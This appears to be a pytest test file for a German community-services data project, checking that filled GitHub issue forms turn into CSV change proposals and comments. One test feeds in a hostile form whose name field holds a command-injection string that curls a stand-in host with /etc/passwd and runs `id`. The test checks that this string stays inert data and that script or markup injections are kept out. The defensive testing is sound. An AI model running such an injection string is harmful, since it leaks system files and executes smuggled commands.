"""A filled form becomes a proposal: on recorded events, honest ones and hostile ones."""

from __future__ import annotations

import csv
import importlib
import json
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
EVENTS = ROOT / "tests" / "events"
OFFERS, CARRIERS = "datapackages/angebote/angebote.csv", "datapackages/angebote/traeger.csv"


@pytest.fixture
def town(tmp_path: Path) -> Path:
    shutil.copytree(ROOT / "tests" / "musterstadt", tmp_path / "stadt")
    return tmp_path / "stadt"


def proposed(town: Path, event: str, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    monkeypatch.syspath_prepend(str(ROOT / "scripts"))
    form = importlib.import_module("form")
    out = town.parent / "vorschlag.json"
    arguments = ["--event", str(EVENTS / f"issue-{event}.json"), "--out", str(out)]
    assert form.main([*arguments, "-f", str(town / "mkdocs.yml")]) == 0
    result: dict[str, Any] = json.loads(out.read_text(encoding="utf-8"))
    return result


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(text.splitlines(keepends=True)))


def test_an_offer_stands_in_its_row_and_is_right(
    town: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = proposed(town, "angebot", monkeypatch)
    assert (made["issue"], made["zweig"]) == (12, "formular/12")
    assert set(made["dateien"]) == {OFFERS, CARRIERS}
    *before, new = rows(made["dateien"][OFFERS])
    assert before == rows((ROOT / "tests/musterstadt" / OFFERS).read_text(encoding="utf-8"))
    assert new["id"] == "krabbelgruppe-beispiel"
    assert (new["name"], new["bereich"]) == ("Krabbelgruppe Beispiel", "bildung")
    assert (new["alter_von"], new["alter_bis"], new["status"]) == ("0", "2", "aktiv")
    carrier = rows(made["dateien"][CARRIERS])[-1]
    assert new["traeger"] == carrier["id"] == "beispiel-e-v"
    assert (town / OFFERS).read_text(encoding="utf-8") == made["dateien"][OFFERS]
    assert made["kommentar"].endswith("### Die Prüfung\n\nAlles in Ordnung.")
    assert "Krabbelgruppe Beispiel" in made["kommentar"]


def test_nothing_else_of_a_table_changes(town: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = (town / OFFERS).read_text(encoding="utf-8")
    after = proposed(town, "angebot", monkeypatch)["dateien"][OFFERS]
    assert after.startswith(before)
    assert after.count("\n") == before.count("\n") + 1


def test_a_correction_changes_one_cell(town: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = rows((town / OFFERS).read_text(encoding="utf-8"))
    made = proposed(town, "fehler", monkeypatch)
    after = rows(made["dateien"][OFFERS])
    pairs = zip(before, after, strict=True)
    found = [(b["id"], c, b[c]) for a, b in pairs for c in b if a[c] != b[c]]
    assert found == [("ms-krabbelgruppe", "telefon", "02131 111111")]


def test_rows_are_changed_and_added(town: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = proposed(town, "daten", monkeypatch)
    found = {row["id"]: row for row in rows(made["dateien"][CARRIERS])}
    old, new = found["klinik-am-kai"], found["neuer-verein"]
    assert (old["telefon"], old["name"]) == ("02131 222222", "Klinik am Kai")
    assert (new["id"], new["website"]) == ("neuer-verein", "https://www.example.org/neu")


@pytest.mark.parametrize("event", ["fehler-frei", "daten-boese", "daten-boese-spalten"])
def test_no_proposal_is_said_in_german(
    town: Path, monkeypatch: pytest.MonkeyPatch, event: str
) -> None:
    made = proposed(town, event, monkeypatch)
    assert set(made) == {"issue", "kommentar"}
    assert made["kommentar"].startswith("Daraus ist von selbst kein Vorschlag entstanden.")
    assert "Traceback" not in made["kommentar"]


def test_what_is_no_form_gets_no_answer(town: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert proposed(town, "kein-formular", monkeypatch) == {"issue": 19}


def test_a_hostile_form_is_data_and_nothing_else(
    town: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = {p: p.read_bytes() for p in town.rglob("*") if p.is_file()}
    made = proposed(town, "angebot-boese", monkeypatch)
    assert set(made["dateien"]) == {OFFERS, CARRIERS}
    assert made["zweig"] == "formular/16"
    assert made["titel"] == "Vorschlag aus dem Formular #16"
    new = rows(made["dateien"][OFFERS])[-1]
    assert new["name"].startswith('"; curl https://boese.example/$(cat /etc/passwd) #`id` ::set')
    assert new["traeger"] == "etcpasswd" or new["traeger"] == "etc-passwd"
    said = made["kommentar"]
    assert "steht hier nicht zur Wahl" not in said.split("### Die Prüfung")[0]
    assert "adresse" in said.split("### Die Prüfung")[1]
    for live in ("<script>", "](javascript", "@alle", "<!--", "\n::"):
        assert live not in said
    changed = {p for p in town.rglob("*") if p.is_file() and outside.get(p) != p.read_bytes()}
    assert changed == {town / OFFERS, town / CARRIERS}


def test_labels_of_the_forms_are_distinct_and_areas_are_those_of_the_data() -> None:
    sys.path.insert(0, str(ROOT / "hooks"))
    from praeventionskette.editing import forms

    known = {form.name: form for form in forms.forms(ROOT / ".github" / "ISSUE_TEMPLATE")}
    assert set(known) == {"angebot-melden", "daten-vorschlagen", "fehler-melden"}
    for form in known.values():
        labels = [label for _, label in form.fields]
        assert len(labels) == len(set(labels))
    text = (ROOT / ".github/ISSUE_TEMPLATE/angebot-melden.yml").read_text(encoding="utf-8")
    with (ROOT / "datapackages/angebote/bereiche.csv").open(encoding="utf-8") as table:
        for row in csv.DictReader(table):
            assert f"        - {row['name']}\n" in text
